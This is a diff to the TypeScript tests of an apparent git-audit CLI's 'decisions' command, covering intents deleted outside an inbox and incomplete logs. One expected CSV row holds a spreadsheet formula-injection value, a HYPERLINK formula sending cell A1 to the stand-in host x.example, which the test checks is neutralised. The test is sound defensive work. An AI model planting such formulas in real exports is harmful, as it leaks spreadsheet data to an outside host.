@@ -83,6 +83,7 @@ beforeAll(() => {
       '.forge/intents/drop-cache.yaml': intent('proposed'),
       '.forge/intents/flaky.yaml': intent('blocked', 'low'),
       '.forge/intents/skip-me.yaml': intent('proposed'),
+      '.forge/intents/drop-me.yaml': intent('proposed'),
       [QUESTION]: question('pending'),
     },
     'Propose the work',
@@ -146,6 +147,8 @@ beforeAll(() => {
   commit('skip', { '.forge/intents/skip-me.yaml': intent('executing') }, 'Start the work', HOSTILE);
   // An ordinary change decides nothing.
   commit('docs', { 'README.md': '# x\n\nMore.\n' }, 'Say more');
+  // A person deletes a high-risk intent that waits for approval: a rejection outside the inbox.
+  commit('drop', { '.forge/intents/drop-me.yaml': null }, 'Drop it', 'Dee');
 });
 
 interface Row {
@@ -232,6 +235,18 @@ describe('decisions', () => {
         line: 6,
         ruleId: 'intent/approval-skipped',
       },
+      {
+        kind: 'outside-inbox',
+        item: '.forge/intents/drop-me.yaml',
+        state: 'deleted outside the inbox',
+        who: 'Dee',
+        approvers: [],
+        when: '2026-01-10T10:00:00+00:00',
+        commit: shas.drop,
+        path: '.forge/intents/drop-me.yaml',
+        line: 6,
+        ruleId: 'intent/deleted-outside-inbox',
+      },
     ]);
   });
 
@@ -240,7 +255,7 @@ describe('decisions', () => {
     expect(run.status).toBe(0);
     const lines = run.stdout.trimEnd().split('\n');
     expect(lines[0]).toBe(
-      '6 decisions. who is the name each commit claims (the bot’s Handoff-Gate-By: trailer, else the commit’s author), read locally from git: a commit can claim any name. GitHub’s record of who commented is on each command’s issue.',
+      '7 decisions. who is the name each commit claims (the bot’s Handoff-Gate-By: trailer, else the commit’s author), read locally from git: a commit can claim any name. GitHub’s record of who commented is on each command’s issue.',
     );
     expect(lines[1]).toBe(
       `2026-01-02T10:00:00+00:00  ${shas.approve!.slice(0, 12)}  approve  intent rotate-keys  approved  by alice (approvers: alice, bob)`,
@@ -248,7 +263,10 @@ describe('decisions', () => {
     expect(lines[6]).toBe(
       `2026-01-08T10:00:00+00:00  ${shas.skip!.slice(0, 12)}  outside-inbox  .forge/intents/skip-me.yaml:6  approval skipped  by ${HOSTILE}  [intent/approval-skipped]`,
     );
-    expect(lines).toHaveLength(7);
+    expect(lines[7]).toBe(
+      `2026-01-10T10:00:00+00:00  ${shas.drop!.slice(0, 12)}  outside-inbox  .forge/intents/drop-me.yaml:6  deleted outside the inbox  by Dee  [intent/deleted-outside-inbox]`,
+    );
+    expect(lines).toHaveLength(8);
   });
 
   it('as CSV: a header, RFC 4180 quoting, and a claimed name that is a formula made inert', async () => {
@@ -262,14 +280,14 @@ describe('decisions', () => {
     expect(rows[6]).toBe(
       `2026-01-08T10:00:00+00:00,${shas.skip},outside-inbox,.forge/intents/skip-me.yaml,approval skipped,"'=HYPERLINK(""http://x.example/?""&A1,""ok""), hi",,.forge/intents/skip-me.yaml,6,intent/approval-skipped`,
     );
-    expect(rows).toHaveLength(8);
-    expect(rows[7]).toBe('');
+    expect(rows).toHaveLength(9);
+    expect(rows[8]).toBe('');
   });
 
   it('--since keeps the decisions from that date on', async () => {
     const run = await cli(['decisions', '--since', '2026-01-05', '--format', 'json'], root);
     const log = JSON.parse(run.stdout) as { decisions: Row[] };
-    expect(log.decisions.map((d) => d.kind)).toEqual(['retry', 'answer', 'outside-inbox']);
+    expect(log.decisions.map((d) => d.kind)).toEqual(['retry', 'answer', 'outside-inbox', 'outside-inbox']);
   });
 
   it('a bad --since, a second PATH and a format of another command are usage errors', async () => {
@@ -277,6 +295,30 @@ describe('decisions', () => {
     expect(run.status).toBe(2);
     expect(run.stderr).toContain('--since must be a date (2026-01-31) or a time with its offset');
     expect(run.stderr).toContain('--format must be one of text, json, csv; got sarif');
+  });
+
+  it('a commit it could not judge is named, and the exit status is 1: a log that stops short never reads as complete', async () => {
+    const dir = repo({ '.github/handoff-gate.yml': 'limits:\n  run-bytes: 10\n', 'README.md': '# x\n' });
+    const at = (args: string[]) =>
+      execFileSync('git', ['-c', 'user.name=Pat', '-c', 'user.email=p@example.com', ...args], {
+        cwd: dir,
+        encoding: 'utf8',
+      }).trim();
+    at(['add', '-A']);
+    at(['commit', '-qm', 'Start']);
+    mkdirSync(join(dir, '.forge/intents'), { recursive: true });
+    // The run's byte bound lets the first file through and stops at the second.
+    writeFileSync(join(dir, '.forge/intents/a.yaml'), intent('proposed'));
+    writeFileSync(join(dir, '.forge/intents/b.yaml'), intent('proposed'));
+    at(['add', '-A']);
+    at(['commit', '-qm', 'Propose']);
+    const sha = at(['rev-parse', 'HEAD']);
+    const run = await cli(['decisions', '--format', 'json'], dir);
+    expect(run.status).toBe(1);
+    const log = JSON.parse(run.stdout) as { complete: boolean; decisions: Row[]; unread: string[] };
+    expect(log.complete).toBe(false);
+    expect(log.unread).toEqual([`${sha.slice(0, 12)}: .forge/intents/b.yaml could not be judged (file/not-judged)`]);
+    expect(run.stderr).toBe(`handoff-gate: not read: ${log.unread[0]}\n`);
   });
 
   it('outside a git repository: exit 2, saying so', async () => {
